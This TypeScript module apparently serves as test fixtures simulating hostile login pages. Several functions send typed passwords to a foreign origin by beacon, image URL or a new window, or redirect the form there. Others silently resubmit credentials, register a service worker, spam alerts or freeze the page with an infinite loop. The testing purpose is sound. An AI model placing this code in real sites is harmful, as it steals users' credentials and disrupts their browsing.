/*
 * What hostile pages do. Each function runs in the visitor's page and is sent as its own text: it may use nothing of
 * this module.
 */

export interface HostileSettings {
  /** Where the form posts to. */
  action: string;
  /** An origin that is not the page's own. */
  foreign: string;
}

/** Sends the form a second time beside the browser's own submission. */
export function sendTwice({ action }: HostileSettings): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  form?.addEventListener('submit', () => {
    const pairs = [...new FormData(form)].map(([name, value]): [string, string] => [name, String(value)]);
    void fetch(action, { method: 'POST', body: new URLSearchParams(pairs), keepalive: true });
  });
}

/** Sends the form a second time by a beacon. */
export function sendBeaconToo({ action }: HostileSettings): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  form?.addEventListener('submit', () => {
    const pairs = [...new FormData(form)].map(([name, value]): [string, string] => [name, String(value)]);
    navigator.sendBeacon(action, new URLSearchParams(pairs));
  });
}

/** Sends the form again when the page is left. */
export function sendWhenLeaving({ action }: HostileSettings): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  window.addEventListener('pagehide', () => {
    if (!form) return;
    const pairs = [...new FormData(form)].map(([name, value]): [string, string] => [name, String(value)]);
    void fetch(action, { method: 'POST', body: new URLSearchParams(pairs), keepalive: true });
  });
}

/** Sends what was typed again from a worker, as JSON in base64. */
export function sendFromWorker({ action }: HostileSettings): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  const code =
    'onmessage = ({ data }) => fetch(data.to, { method: "POST", headers: { "content-type": "text/plain" }, body: data.text })';
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  form?.addEventListener('submit', (event) => {
    event.preventDefault();
    const text = btoa(JSON.stringify(Object.fromEntries(new FormData(form))));
    worker.postMessage({ to: new URL(action, location.href).href, text });
    // The worker first, then the browser's own.
    setTimeout(() => form.submit(), 150);
  });
}

/** Sends the form once more from a hidden frame. */
export function sendInFrame(): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  form?.addEventListener('submit', () => {
    const frame = document.createElement('iframe');
    frame.name = 'second';
    frame.hidden = true;
    const twin = form.cloneNode(true) as HTMLFormElement;
    for (const field of twin.querySelectorAll('input')) {
      field.value = form.querySelector<HTMLInputElement>(`[name="${field.name}"]`)?.value ?? '';
      field.removeAttribute('id');
    }
    twin.target = 'second';
    twin.hidden = true;
    document.body.append(frame, twin);
    twin.submit();
  });
}

/** Logs in by fetch, and a while later does it again. */
export function sendAgainLater({ action }: HostileSettings): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  form?.addEventListener('submit', (event) => {
    event.preventDefault();
    const pairs = [...new FormData(form)].map(([name, value]): [string, string] => [name, String(value)]);
    const send = () => fetch(action, { method: 'POST', body: new URLSearchParams(pairs) });
    void send();
    setTimeout(send, 400);
  });
}

/** Sends the form as soon as something is in the password's field. */
export function sendOnInput(): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  const field = form?.querySelector<HTMLInputElement>('input[type=password]');
  for (const kind of ['input', 'keyup']) field?.addEventListener(kind, () => form?.requestSubmit());
}

/** Changes where the form goes at the last moment. */
export function redirectForm({ foreign, action }: HostileSettings): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  form?.addEventListener('submit', () => {
    form.action = foreign + action;
  });
}

/** Tells another origin what is typed, by a beacon. */
export function leakByBeacon({ foreign, action }: HostileSettings): void {
  const field = document.querySelector<HTMLInputElement>('input[type=password]');
  field?.addEventListener('input', () => navigator.sendBeacon(foreign + action, field.value));
}

/** Tells another origin what is typed, in the address of a picture. */
export function leakByPicture({ foreign, action }: HostileSettings): void {
  const field = document.querySelector<HTMLInputElement>('input[type=password]');
  field?.addEventListener('input', () => {
    new Image().src = `${foreign}${action}?picture=${btoa(unescape(encodeURIComponent(field.value)))}`;
  });
}

/** Tells another origin what is typed in a page that it opens. */
export function leakByWindow({ foreign, action }: HostileSettings): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  const field = form?.querySelector<HTMLInputElement>('input[type=password]');
  form?.addEventListener('submit', () => {
    window.open(`${foreign}${action}?window=${encodeURIComponent(field?.value ?? '')}`);
  });
}

/** Puts a copy of the password's field beside it while it is typed into. */
export function cloneField(): void {
  const field = document.querySelector<HTMLInputElement>('input[type=password]');
  field?.addEventListener('input', () => {
    if (document.querySelectorAll('input[type=password]').length > 1) return;
    const twin = field.cloneNode(true) as HTMLInputElement;
    twin.id = 'twin';
    twin.value = field.value;
    twin.name = 'again';
    field.after(twin);
  });
}

/** Sends a digest instead of the password, after a salt if one is given; `twice`: two times. */
export function sendDigest({ action, salt, twice }: HostileSettings & { salt: string; twice: boolean }): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  form?.addEventListener('submit', async (event) => {
    event.preventDefault();
    const field = form.querySelector<HTMLInputElement>('input[type=password]');
    const bytes = new TextEncoder().encode(salt + (field?.value ?? ''));
    const digest = await crypto.subtle.digest('SHA-256', bytes);
    const hex = [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
    const pairs = [...new FormData(form)].map(([name, value]): [string, string] => [
      name,
      name === 'password' ? hex : String(value),
    ]);
    const send = () => fetch(action, { method: 'POST', body: new URLSearchParams(pairs), redirect: 'follow' });
    const [answer] = await Promise.all(twice ? [send(), send()] : [send()]);
    document.open();
    document.write((await answer?.text()) ?? '');
    document.close();
    if (answer?.redirected) history.replaceState(null, '', answer.url);
  });
}

/** Asks the browser for an HTTP credential as soon as the page is there. */
export function askNatively({ action }: HostileSettings): void {
  void fetch(`${action}-native`).catch(() => undefined);
  const frame = document.createElement('iframe');
  frame.src = `${action}-native`;
  document.body.append(frame);
}

/** One alert after the other, at first sight and when the form is sent. */
export function alertOften(): void {
  for (let count = 0; count < 8; count += 1) alert(`Notice ${count}`);
  document.querySelector('form[method=post]')?.addEventListener('submit', () => {
    for (let count = 0; count < 8; count += 1) alert(`Are you sure? ${count}`);
  });
}

/** The button does nothing at a click; it wants the Enter key, pressed by a person. */
export function onlyRealKeys(): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  const button = form?.querySelector('button');
  button?.addEventListener('click', (event) => event.preventDefault());
  button?.addEventListener('keydown', (event) => {
    if (event.isTrusted && event.key === 'Enter') form?.submit();
  });
}

/** Asks for a service worker that sends every login twice. */
export function registerWorker({ action }: HostileSettings): void {
  void navigator.serviceWorker?.register(`${action}-worker.js`).catch(() => undefined);
}

/** Opens the answer in a window of its own; this page looks after itself. */
export function answerInWindow({ action }: HostileSettings): void {
  const form = document.querySelector<HTMLFormElement>('form[method=post]');
  form?.setAttribute('target', '_blank');
  form?.addEventListener('submit', () => {
    setInterval(async () => {
      const answer = await fetch(`${action}-state`);
      if ((await answer.text()) === 'in') location.href = action.replace(/login$/, 'account');
    }, 200);
  });
}

/** Never lets the page rest again once it has come. */
export function neverRest(): void {
  document.addEventListener('DOMContentLoaded', () => {
    setTimeout(() => {
      for (;;);
    });
  });
}
